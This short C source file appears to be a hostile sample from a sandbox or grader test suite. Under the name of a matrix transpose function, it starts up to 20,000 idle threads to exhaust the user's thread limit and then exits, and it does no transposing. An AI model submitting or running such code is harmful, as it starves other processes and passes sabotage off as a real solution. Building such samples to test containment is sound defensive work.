// Graded: 0 stopped|refused|wrong: .
// Attack: starts threads until none is left for the other processes of this user.
#include "transpose.h"
#include <pthread.h>
#include <unistd.h>

static void *wait(void *)
{
    for (;;)
        pause();
}

void transpose(const float *in, float *out, int rows, int cols)
{
    pthread_attr_t small;
    pthread_t thread;
    int n = 0;

    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 64 << 10);
    while (n < 20000 && pthread_create(&thread, &small, wait, nullptr) == 0)
        n++;
    if (n == 20000)
        _exit(99);
}
